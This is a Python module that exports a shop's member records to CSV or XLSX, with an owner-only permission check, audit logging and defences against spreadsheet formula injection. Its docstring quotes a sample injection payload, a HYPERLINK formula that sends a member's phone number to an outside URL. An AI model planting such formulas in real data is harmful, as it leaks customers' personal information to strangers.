"""Tables of personal data out of the shop as CSV or XLSX: owner only, audited, written whole.

CSV is UTF-8 with a byte-order mark, so Excel opens Chinese names right; amounts in major units
("58.00"), dates as YYYY-MM-DD. In XLSX amounts are numbers Excel can sum. The file is written
under a temporary name (read in a read transaction, so the till is never held up) and renamed
when complete in the same short transaction as its audit row: a failed export leaves neither a
half file nor an audit row.

No cell runs as a formula (OWASP "CSV injection": a member named ``=HYPERLINK("http://…"&C2)``
would send another member's phone to a stranger when the owner opens the file). In CSV a text
beginning with ``=``, ``+`` (unless a plain number or phone), ``-`` (unless a plain number), ``@``,
tab or CR gets a leading ``'``; in XLSX every text is written as a string cell, never a formula.
Characters illegal in the workbook's XML (ESC and the other C0 controls) and bidi overrides are
removed from both (app/safe_text.py). The file is the owner's only (0600; app/paths.py).
"""
from __future__ import annotations

import csv
import os
import re
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Callable, Iterable

from app import paths
from app.errors import ValidationError
from app.i18n import L_
from app.money import to_major, to_major_str
from app.safe_text import cell as clean_cell
from app.services.base import audit, permissions
from app.services.base.context import Ctx

FORMATS = {".csv": "csv", ".xlsx": "xlsx"}


@dataclass(frozen=True)
class Column:
    name: str
    kind: str = "text"   # text | int | money | date | ratio | bool


def export_format(path: Path) -> str:
    fmt = FORMATS.get(Path(path).suffix.lower())
    if fmt is None:
        raise ValidationError("export_format", file=Path(path).name)
    return fmt


def export_table(ctx: Ctx, path: str | Path, columns: tuple[Column, ...], rows: Callable[[Ctx], Iterable[tuple]],
                 *, currency: str, action: str, details: dict, sheet: str = "Members",
                 entity: str = "members", progress: Callable[[int, int, str], None] | None = None, total: int = 0) -> int:
    """Write ``rows(t)`` (read in the export's own transaction) to ``path``; returns the row count.
    ``action`` and ``details`` go into the audit row (about ``entity``) with the file name, format and
    count."""
    permissions.require(ctx, "export")
    path = Path(path)
    fmt = export_format(path)
    if not path.parent.is_dir():
        raise ValidationError("export_unwritable", file=str(path), why=L_("no such folder"))
    tmp = path.with_name(f".{path.name}.part")
    write = _write_xlsx if fmt == "xlsx" else _write_csv
    try:
        # Read and write the file in a read transaction (a big XLSX takes half a minute: the till
        # must keep selling meanwhile), then record and rename in one short write transaction.
        with ctx.tx(write=False) as r:
            n = write(tmp, columns, _counted(rows(r), total, path.name, progress), currency, sheet)
        paths.private_file(tmp)   # full phone numbers: the owner's eyes only, wherever it is saved
        with ctx.tx() as t:
            audit.record(t, action, entity, None, after={
                "file": path.name, "format": fmt, "rows": n, "columns": [c.name for c in columns], **details})
            os.replace(tmp, path)
    except OSError as exc:
        raise ValidationError("export_unwritable", file=str(path), why=exc.strerror or str(exc)) from None
    finally:
        tmp.unlink(missing_ok=True)
    return n


def _counted(rows, total: int, label: str, progress):
    for i, row in enumerate(rows, 1):
        if progress is not None and (i % 5000 == 0 or i == total):
            progress(i, total, label)
        yield row


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
_PHONE = re.compile(r"\+[0-9]+( [0-9]+)*")   # +8613800138000, +86 138 0013 8000


def csv_text(text: str) -> str:
    """A text as a CSV cell that Excel, LibreOffice and Sheets read as text, never as a formula."""
    text = clean_cell(text)
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text) and not (
            text.startswith("+") and _PHONE.fullmatch(text)):
        return "'" + text
    return text


def _csv_cell(value, kind: str, currency: str) -> str:
    if value is None:
        return ""
    if kind == "money":
        return to_major_str(value, currency)
    if kind == "ratio":
        return f"{value:.4f}"
    if kind == "date":
        return (value.date() if isinstance(value, datetime) else value).isoformat()
    if kind == "bool":
        return "1" if value else "0"
    return csv_text(str(value))


def _xlsx_cell(value, kind: str, currency: str):
    if value is None:
        return None
    if kind == "money":
        return to_major(value, currency)   # a Decimal: a number Excel can sum
    if kind == "ratio":
        return round(value, 4)
    if kind == "date" and isinstance(value, datetime):
        return value.date()
    if kind == "bool":
        return bool(value)
    return value if isinstance(value, (int, float, date)) else clean_cell(str(value))


def _write_csv(path: Path, columns, rows, currency: str, _sheet: str) -> int:
    n = 0
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        w = csv.writer(f)
        w.writerow([c.name for c in columns])
        for row in rows:
            w.writerow([_csv_cell(v, c.kind, currency) for v, c in zip(row, columns, strict=True)])
            n += 1
    return n


def _write_xlsx(path: Path, columns, rows, currency: str, sheet: str) -> int:
    import openpyxl
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(sheet)

    def text_cell(value):
        # openpyxl makes a formula of any text beginning with "=" (and an error of "#N/A"…):
        # such a text goes in as a string cell, shown and kept exactly as typed.
        if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
            cell = WriteOnlyCell(ws, value)
            cell.data_type = "s"
            return cell
        return value

    ws.append([c.name for c in columns])
    n = 0
    for row in rows:
        ws.append([text_cell(_xlsx_cell(v, c.kind, currency)) for v, c in zip(row, columns, strict=True)])
        n += 1
    wb.save(path)
    return n
